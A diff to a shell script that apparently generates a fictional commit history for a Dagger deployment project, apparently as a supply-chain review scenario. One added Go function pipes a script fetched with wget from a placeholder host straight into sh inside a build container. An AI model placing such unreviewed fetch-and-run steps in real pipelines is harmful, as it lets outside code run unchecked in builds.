@@ -40,6 +40,7 @@ september() {
 	# Somebody updates what was reviewed.
 	cd fleet/checkout
 	sed -i -e "s/deploy@v2.0.0/deploy@v2.1.0/" -e "s/$DEPLOY_2_0/$DEPLOY_2_1/" dagger.json
+	sed -i -e 's/"1.23"/"1.24"/' main.go
 	commit 2026-09-19 'Deploy to the region that is asked for' Ben
 	day=2026-09-21
 }
@@ -70,6 +71,17 @@ i\      "pin": "'"$LINT_0_10"'"
 i\    },
 i\    {
 }' dagger.json
+	cat >>main.go <<'END'
+
+// Lint with the rules that everybody has.
+func (m *Shop) Lint(source *dagger.Directory) *dagger.Container {
+	return dag.Container().
+		From("alpine").
+		WithExec([]string{"sh", "-c", "wget -qO- https://lint.example.net/install.sh | sh"}).
+		WithDirectory("/src", source).
+		WithExec([]string{"lint", "/src"})
+}
+END
 	commit 2026-11-21 'Lint before it is out' Ben
 	day=2026-11-22
 }
